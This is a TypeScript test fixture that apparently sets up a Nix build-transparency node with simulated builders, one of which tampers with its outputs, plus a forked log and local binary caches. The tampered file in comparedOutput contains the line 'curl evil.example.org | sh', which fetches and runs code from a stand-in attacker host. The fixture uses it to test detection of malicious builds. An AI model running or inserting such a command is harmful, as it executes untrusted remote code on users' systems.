// A node with something to look at: builders of whom one deviates, one is new and one has forked its log; a package of which
// two outputs can be compared; a log of its own. The node is the real one, in this process; logs are served over HTTP.

import { createHash } from "node:crypto";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { encodeNar, formatNarInfo, formatNixEntry, type NarInfo, parseStorePath } from "@trustix/nix";
import { createLogKey } from "trustix/src/cli/keys.ts";
import {
  eventually,
  listenTo,
  NODE,
  type RunningNode,
  startNode,
  temporary,
  whenSynced,
} from "trustix/src/daemon/nodes.test.util.ts";
import type { BuildersJson, OverviewJson } from "trustix/src/http/insight-schema.ts";
import { TestLog, TestServer } from "trustix/src/subscribe/test-log.test.util.ts";

/** Builders, in the order of their subscriptions. */
export const BUILDERS = ["alice", "bob", "chuck", "dan"] as const;
export type BuilderName = (typeof BUILDERS)[number];

const NAMES = [
  "acl attr bash binutils bison bzip2 cmake coreutils curl diffutils expat findutils gawk gcc gettext glib glibc gmp",
  "gnugrep gnused gnutar gzip hello icu libffi libpng libxml2 linux meson mpfr ncurses nginx ninja openssl pcre2 perl",
  "python3 readline ripgrep sqlite systemd tzdata util-linux xz zlib zstd",
]
  .join(" ")
  .split(" ");
/** Their builds never come out twice the same. */
const FLAKY = new Set(["python3", "linux", "lib-nginx"]);
/** So that there are many packages. */
const PREFIXES = ["", "lib", "python-", "perl-", "haskell-", "rust-", "go-", "node-"];
/** Of how many paths the deviating builder changes one. */
const DEVIATION = 25;
/** The path whose outputs can be compared. */
export const COMPARED = "motd-1.0";

const digest = (...parts: readonly unknown[]): Buffer =>
  createHash("sha256").update(parts.join("\n")).digest();

const pathOf = (name: string) =>
  parseStorePath(`/nix/store/${digest(name).toString("hex").slice(0, 32).replaceAll("e", "z")}-${name}`);

/** What a builder claims of a path whose contents are made up. */
function claim(name: string, output: unknown, system = "x86_64-linux"): Uint8Array {
  const narHash = { algorithm: "sha256", bytes: digest(name, output) } as const;
  const facts = { storePath: pathOf(name), narHash, narSize: 4096 + name.length * 8, references: [] };
  return formatNixEntry(facts, { system, kind: "built" });
}

/** Everything that a builder has built. */
function claimsOf(builder: BuilderName): Uint8Array[] {
  const claims: Uint8Array[] = [];
  PREFIXES.forEach((prefix, at) => {
    for (const [index, rest] of NAMES.entries()) {
      const name = prefix + rest;
      const number = at * NAMES.length + index;
      if (builder === "dan" && number % 6 === 0) continue;
      const deviates = builder === "chuck" && number % DEVIATION === 7;
      const output = FLAKY.has(name) || deviates ? builder : "same";
      claims.push(
        claim(`${name}-${(index % 4) + 1}.${at}`, output, number % 9 === 0 ? "aarch64-linux" : undefined),
      );
    }
  });
  return claims;
}

/** A builder's output of {@link COMPARED}, as a NAR, and what there is to state of it. */
function comparedOutput(builder: BuilderName): {
  readonly nar: Buffer;
  readonly facts: Pick<NarInfo, "storePath" | "narHash" | "narSize" | "references">;
} {
  const lines = [
    "Welcome.",
    "",
    "Everything here was built from source.",
    "built on 2026-11-02 10:00:00",
    "Have fun.",
  ];
  if (builder === "chuck") lines.splice(2, 2, "curl evil.example.org | sh", "built on 2026-11-03 23:11:42");
  const contents = Buffer.from(`${lines.join("\n")}\n`);
  const nar = Buffer.concat([
    ...encodeNar({ type: "directory", entries: [["motd", { type: "regular", contents }]] }),
  ]);
  const bytes = createHash("sha256").update(nar).digest();
  const facts = {
    storePath: pathOf(COMPARED),
    narHash: { algorithm: "sha256", bytes },
    narSize: nar.length,
    references: [],
  } as const;
  return { nar, facts };
}

/** A cache in a directory, with that one path. */
async function writeCache(directory: string, builder: BuilderName): Promise<string> {
  const { nar, facts } = comparedOutput(builder);
  await mkdir(join(directory, "nar"), { recursive: true });
  await writeFile(join(directory, "nix-cache-info"), "StoreDir: /nix/store\n");
  const hash = { algorithm: "sha256", bytes: createHash("sha256").update(nar).digest() } as const;
  const info = formatNarInfo({
    ...facts,
    url: "nar/file.nar",
    compression: "none",
    fileHash: hash,
    fileSize: nar.length,
    signatures: [],
  });
  await writeFile(join(directory, `${facts.storePath.slice(11, 43)}.narinfo`), info);
  await writeFile(join(directory, "nar/file.nar"), nar);
  return pathToFileURL(directory).href;
}

/** A log that is served, and grows when told to. */
interface ServedLog {
  readonly log: TestLog;
  readonly server: TestServer;
}

/** What the dashboard shows. */
export interface World extends AsyncDisposable {
  readonly node: RunningNode;
  readonly logs: ReadonlyMap<BuilderName, ServedLog>;
  /** A builder claims one more path, under its honest output. */
  build(builder: BuilderName, name: string): Promise<void>;
  /** Another node that listens to other logs under the same names and addresses' keys. */
  startTwin(logs: ReadonlyMap<BuilderName, ServedLog>): Promise<RunningNode>;
  /** JSON of the node's public API. */
  get<T>(path: string): Promise<T>;
  hashPartOf(name: string): string;
}

const subscriptions = (logs: ReadonlyMap<string, ServedLog>): string =>
  listenTo(
    [...logs].map(([name, { log, server }]) => ({ name, vkey: log.key, logUrl: `${server.address}/` })),
  );

/** Starts everything, and waits until all of it is read and assessed. */
export async function openWorld(): Promise<World> {
  await using stack = new AsyncDisposableStack();
  const root = stack.use(await temporary());
  const serve = async (log: TestLog): Promise<ServedLog> => ({
    log,
    server: stack.use(await TestServer.start(log.files)),
  });
  const logs = new Map<BuilderName, ServedLog>();
  for (const name of BUILDERS) {
    const log = await TestLog.create(`${name}.example.org/nix`);
    const claims = claimsOf(name);
    if (name !== "dan") claims.push(formatNixEntry(comparedOutput(name).facts, { kind: "built" }));
    for (let from = 0; from < claims.length; from += 150) await log.append(claims.slice(from, from + 150));
    logs.set(name, await serve(log));
  }
  const eve = await TestLog.create("eve.example.org/nix");
  await eve.append([claim("hello-0.1", "same")]);
  const fork = eve.twin();
  const served = await serve(eve);
  await eve.append([claim("hello-0.2", "same")]);
  await fork.append([claim("hello-0.2", "other")]);

  const home = join(root.path, "user");
  await mkdir(home);
  const { secret } = await createLogKey("user.example.org/notes");
  await writeFile(join(home, "notes.key"), secret, { mode: 0o600 });
  const caches = await Promise.all(
    (["alice", "chuck"] as const).map(async (name) => {
      const url = await writeCache(join(root.path, `cache-${name}`), name);
      return `[[upstream]]\nname = "${name}"\nurl = "${url}"\n`;
    }),
  );
  const node = stack.use(
    await startNode(
      home,
      `${NODE}operator = "user"
[[log]]
name = "notes"
protocol = "raw"
origin = "user.example.org/notes"
key-file = "notes.key"
${subscriptions(new Map<string, ServedLog>([...logs, ["eve", served]]))}
[policy]
members = ["alice", "bob", "chuck"]
threshold = 2
${caches.join("")}`,
    ),
  );
  await whenSynced(node);
  for (const [path, bytes] of fork.files) served.server.files.set(path, bytes);
  await eventually(
    () => node.status().subscriptions.find(({ subscription }) => subscription === "eve"),
    (eve) => eve?.health === "quarantined",
  );
  const get = async <T>(path: string): Promise<T> => {
    const response = await fetch(new URL(path, node.url));
    if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
    return (await response.json()) as T;
  };
  await eventually(
    () => get<OverviewJson>("/api/v1/overview"),
    ({ behind, total }) => behind === 0 && total.paths > NAMES.length * PREFIXES.length,
  );
  await eventually(
    () => get<BuildersJson>("/api/v1/builders"),
    ({ suspicions }) => suspicions.some(({ operators }) => operators.includes("chuck")),
  );
  let twins = 0;
  const owned = stack.move();
  return {
    node,
    logs,
    build: async (builder, name) => logs.get(builder)?.log.append([claim(name, "same")]),
    startTwin: async (others) => {
      const twin = owned.use(
        await startNode(join(root.path, `twin-${twins++}`), `${NODE}${subscriptions(others)}`),
      );
      await whenSynced(twin);
      return twin;
    },
    get,
    hashPartOf: (name) => pathOf(name).slice(11, 43),
    [Symbol.asyncDispose]: () => owned.disposeAsync(),
  };
}
